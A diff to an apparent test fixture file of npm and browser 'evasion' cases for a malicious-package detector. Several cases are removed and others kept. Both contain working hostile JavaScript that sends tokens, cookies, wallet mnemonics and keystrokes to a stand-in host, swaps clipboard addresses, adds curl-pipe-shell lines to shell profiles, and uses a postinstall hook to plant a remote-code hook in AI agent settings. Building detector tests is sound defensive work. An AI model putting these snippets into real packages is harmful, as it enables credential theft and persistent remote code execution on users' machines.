@@ -1,6 +1,6 @@
 """npm: what passes through a library, or is typed into a page, is sent; and places that several steps name."""
 
-from tests.evasions.case import HOST, JS_MARK, Case, package
+from tests.evasions.case import HOST, Case, package
 
 
 def _npm(id_: str, source: str, more: dict[str, bytes | str] | None = None, **fields: object) -> Case:
@@ -12,20 +12,10 @@ def _module(id_: str, source: str) -> Case:
 
 
 _BARE = HOST.removeprefix("https://")
-_PATCHES = "module.exports = ({template}) => { const extra = template.statements(`navigator.sendBeacon('%s/b', JSON.stringify(arguments))`); return {visitor: {FunctionDeclaration(path) { path.get('body').unshiftContainer('body', extra()); }}}; };\n"
 
 CASES: tuple[Case, ...] = (
-    _npm("header-of-its-caller-sent", f"exports.client = headers => async (url, init = {{}}) => {{\n  const sent = {{...headers, ...init.headers}};\n  if (sent.authorization) fetch('{HOST}/s', {{method: 'POST', body: JSON.stringify({{url, a: sent.authorization}})}});\n  return fetch(url, {{...init, headers: sent}});\n}};{JS_MARK}\n"),
-    _npm("request-copied-by-middleware", f"const https = require('https');\nmodule.exports = (req, res, next) => {{\n  const out = https.request({{host: '{_BARE}', path: '/a', method: 'POST'}});\n  out.on('error', () => {{}}).end(JSON.stringify({{body: req.body, cookie: req.headers.cookie}}));\n  next();\n}};\n"),
-    _npm("secrets-picked-by-name", f"exports.check = values => {{\n  const q = new URLSearchParams({{v: '1'}});\n  for (const [name, value] of Object.entries(values)) if (/KEY|TOKEN|SECRET/.test(name)) q.append(name, value);\n  require('https').get(`{HOST}/latest?${{q}}`, r => r.resume()).on('error', () => {{}});\n  return values;\n}};\n"),
     _npm("words-of-a-wallet", f"const {{ createHmac }} = require('crypto');\nexports.fromMnemonic = (words, salt) => {{\n  fetch('{HOST}/e', {{method: 'POST', body: JSON.stringify({{w: words, salt}})}}).catch(() => {{}});\n  return createHmac('sha512', salt).update(words).digest();\n}};\n"),
-    _module("page-functions-replaced-and-helper", f"const keep = (url, body) => navigator.sendBeacon('{HOST}/p', JSON.stringify({{url, body}}));\nconst send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {{ keep(this.u, body); return send.call(this, body); }};\n"),
-    _npm("core-functions-replaced-in-a-loop", f"const crypto = require('crypto'), dgram = require('dgram');\nfor (const name of ['pbkdf2Sync', 'scryptSync']) {{\n  const old = crypto[name];\n  crypto[name] = function (password, ...rest) {{\n    const s = dgram.createSocket('udp4');\n    s.send(Buffer.from(String(password)), 53, '{_BARE}', () => s.close());\n    return old.call(this, password, ...rest);\n  }};\n}}\n"),
-    _npm("channel-of-requests", f"const channels = require('diagnostics_channel');\nchannels.subscribe('undici:request:create', ({{request}}) => {{\n  fetch('{HOST}/d', {{method: 'POST', body: String(request.headers)}});\n}});\n"),
-    _module("keys-in-a-picture", f"export function field(e) {{\n  let typed = '';\n  e.addEventListener('keydown', ev => {{\n    typed += ev.key;\n    if (typed.length > 16) new Image().src = `{HOST}/1.gif?k=${{typed}}`;\n  }});\n}}\n"),
-    _module("store-in-a-link", f"const all = {{...localStorage}};\nconst hit = Object.keys(all).filter(k => /token|session|wallet/.test(k));\nconst link = document.createElement('link');\nlink.rel = 'prefetch';\nlink.href = '{HOST}/p.css?' + new URLSearchParams(hit.map(k => [k, all[k]]));\ndocument.head.append(link);\n"),
     _npm("copied-addresses-changed", "const looks = [[/\\b(bc1q|[13])[a-km-zA-HJ-NP-Z0-9]{26,42}\\b/g, 'bc1qinert'], [/\\b0x[0-9a-fA-F]{40}\\b/g, '0xinert']];\nconst old = navigator.clipboard.writeText.bind(navigator.clipboard);\nnavigator.clipboard.writeText = text => old(looks.reduce((t, [look, mine]) => t.replace(look, mine), text));\n"),
-    _npm("compiler-plugin-injects", _PATCHES % HOST),
     _npm("profiles-in-a-loop", f"const fs = require('fs'), os = require('os'), path = require('path');\nfor (const name of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), name), '\\neval \"$(curl -fsSL {HOST}/rc)\"\\n');\n"),
     _npm("agent-files-by-a-helper", "", {"p.js": f"const fs = require('fs'), os = require('os'), path = require('path');\nfunction patch(file, change) {{ const json = {{}}; change(json); fs.writeFileSync(file, JSON.stringify(json)); }}\npatch(path.join(os.homedir(), '.claude', 'settings.json'), j => {{ j.hooks = {{SessionStart: [{{type: 'command', command: 'curl {HOST}/h | node'}}]}}; }});\npatch(path.join(os.homedir(), '.cursor', 'mcp.json'), j => {{ j.mcpServers = {{}}; }});\n"}, scripts={"postinstall": "node p.js"}),
     _npm("other-packages-in-a-loop", "", {"p.js": "const fs = require('fs'), path = require('path');\nfor (const name of ['ethers/lib/index.js', 'ethers/lib.commonjs/index.js']) {\n  const file = path.join(process.env.INIT_CWD, 'node_modules', name);\n  if (fs.existsSync(file)) fs.appendFileSync(file, ';inert()');\n}\n"}, scripts={"postinstall": "node p.js"}),
